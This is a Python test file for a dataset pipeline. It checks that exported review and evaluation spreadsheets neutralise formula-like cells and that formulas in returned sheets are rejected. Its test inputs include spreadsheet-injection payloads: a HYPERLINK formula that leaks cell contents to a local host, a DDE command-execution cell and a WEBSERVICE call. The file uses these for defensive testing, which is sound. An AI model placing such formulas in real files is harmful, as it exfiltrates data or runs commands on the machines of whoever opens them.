"""Sheets are safe to open: no cell of a CSV or XLSX sheet runs as a formula in a spreadsheet program,
and what the reviewer returns comes back as the text that was exported."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from instruct_global.lib.common.spreadsheet_safety import (
    FORMULA_STARTS,
    is_formula_like,
    neutralise_formula,
    restore_formula,
)
from instruct_global.lib.evaluate.human_eval import (
    EvalItem,
    blind_sheet,
    build_pairs,
    validate_eval_sheet,
    write_eval_sheet,
)
from instruct_global.lib.translate.review_sheet import (
    ReviewSheetError,
    ReviewStore,
    apply_stored_reviews,
    build_review_sheet,
    read_returned_sheet,
    validate_returned_sheet,
    write_review_sheet,
)

# What scraped text, model answers and dataset values can start with; each would run in Excel.
HOSTILE_CELLS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice quoted",
    "- a list item in Yorùbá: ọ̀kan",
    "plain text",
    "'an apostrophe, then text",
]


def _raw_csv_cells(path: Path) -> list[str]:
    """Every cell as a spreadsheet program reads it: plain CSV parsing, nothing undone."""
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_csv_safe(path: Path) -> None:
    runnable = [c for c in _raw_csv_cells(path) if c.startswith(FORMULA_STARTS)]
    assert runnable == [], f"{path.name}: cells a spreadsheet would run: {runnable}"


def _assert_xlsx_safe(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_escape_is_exactly_reversible() -> None:
    for text in [*HOSTILE_CELLS, "", "'", "''", "=", "'''=x"]:
        escaped = neutralise_formula(text)
        assert restore_formula(escaped) == text
        assert not escaped.startswith(FORMULA_STARTS)
    # text that does not look like a formula is untouched both ways
    assert neutralise_formula("'plain") == "'plain" and restore_formula("'plain") == "'plain"


def _target_rows() -> pd.DataFrame:
    rows = []
    for i, text in enumerate(HOSTILE_CELLS):
        rows.append({
            "id": f"r{i:02d}", "lang": "yor", "category": "open_qa",
            "instruction_en": text, "input_en": "", "output_en": f"answer {i}",
            "instruction": text, "input": text if i % 2 else "", "output": f"ìdáhùn {i} {text}",
        })  # fmt: skip
    return pd.DataFrame(rows)


def test_review_sheet_csv_and_xlsx_are_safe_and_round_trip(tmp_path: Path) -> None:
    rows = _target_rows()
    sheet = build_review_sheet(rows)
    csv_path, xlsx_path = tmp_path / "review_yor.csv", tmp_path / "review_yor.xlsx"
    write_review_sheet(sheet, csv_path, xlsx_path)
    _assert_csv_safe(csv_path)
    _assert_xlsx_safe(xlsx_path)
    for path in (csv_path, xlsx_path):
        back = read_returned_sheet(path)
        for column in ("english_instruction", "instruction", "input", "output"):
            # \r inside a cell is a newline for the reader: compare as the validation does
            expected = [v.replace("\r", "\n") for v in sheet[column]]
            assert [v.replace("\r", "\n") for v in back[column]] == expected, (path.name, column)
        # returned untouched: nothing to apply and no row flagged as changed
        assert validate_returned_sheet(back, rows).edits == []


def test_a_formula_shaped_correction_comes_back_as_text(tmp_path: Path) -> None:
    """A reviewer's correction that starts with '=' is stored as the text they typed, from either format."""
    rows = _target_rows()
    csv_path = tmp_path / "review_yor.csv"
    write_review_sheet(build_review_sheet(rows), csv_path, None)
    # the reviewer types the correction in a spreadsheet, which saves it with the apostrophe shown
    table = list(csv.reader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    header = table[0]
    for row in table[1:]:
        if row[header.index("id")] == "r10":
            row[header.index("corrected_output")] = "'=2+2 jẹ́ mẹ́rin"
            row[header.index("approved")] = "yes"
    out = io.StringIO(newline="")
    csv.writer(out).writerows(table)
    csv_path.write_bytes(out.getvalue().encode("utf-8-sig"))
    store = ReviewStore(tmp_path / "reviews.jsonl")
    store.save_edits(validate_returned_sheet(read_returned_sheet(csv_path), rows).edits)
    reviewed, counts = apply_stored_reviews(rows, store)
    assert counts["corrected"] == 1
    assert reviewed.loc[reviewed["id"] == "r10", "output"].item() == "=2+2 jẹ́ mẹ́rin"


def test_a_formula_in_a_returned_xlsx_is_refused_naming_the_cell(tmp_path: Path) -> None:
    rows = _target_rows()
    xlsx_path = tmp_path / "review_yor.xlsx"
    write_review_sheet(build_review_sheet(rows), None, xlsx_path)
    book = openpyxl.load_workbook(xlsx_path)
    ws = book.active
    header = [c.value for c in ws[1]]
    ws.cell(row=3, column=header.index("corrected_output") + 1, value='=WEBSERVICE("http://127.0.0.1:9/")')
    book.save(xlsx_path)
    with pytest.raises(ReviewSheetError) as caught:
        read_returned_sheet(xlsx_path)
    message = str(caught.value)
    letter = openpyxl.utils.get_column_letter(header.index("corrected_output") + 1)
    assert "row 3" in message and "column corrected_output" in message and f"cell {letter}3" in message
    assert "formula" in message


def test_human_eval_sheet_is_safe_and_round_trips(tmp_path: Path) -> None:
    items = [EvalItem(f"q{i:02d}", "yor", "question_bank", text, ({"role": "user", "content": text},))
             for i, text in enumerate(HOSTILE_CELLS)]  # fmt: skip
    pairs = build_pairs(items, [f"{t} (base)" for t in HOSTILE_CELLS], [f"-{t}" for t in HOSTILE_CELLS], 7)
    csv_path, xlsx_path = tmp_path / "eval.csv", tmp_path / "eval.xlsx"
    write_eval_sheet(blind_sheet(pairs), csv_path, xlsx_path)
    _assert_csv_safe(csv_path)
    _assert_xlsx_safe(xlsx_path)
    for path in (csv_path, xlsx_path):
        back = read_returned_sheet(path)
        assert [p.replace("\r", "\n") for p in back["prompt"]] == [
            p.replace("\r", "\n") for p in blind_sheet(pairs)["prompt"]
        ]
        # untouched sheet: the answers match the exported ones (no error), no verdicts yet
        validation = validate_eval_sheet(back, pairs)
        assert validation.errors == [] and validation.verdicts == []


def test_label_studio_outbox_uses_the_same_writer(tmp_path: Path) -> None:
    """The curated review sheet and the Label Studio outbox are written by write_review_sheet too."""
    import inspect

    from instruct_global.assets import curate, translate
    from instruct_global.lib.evaluate import label_studio

    for module in (curate, translate, label_studio):
        assert "write_review_sheet" in inspect.getsource(module)
    assert "to_csv(" not in inspect.getsource(curate) + inspect.getsource(translate)
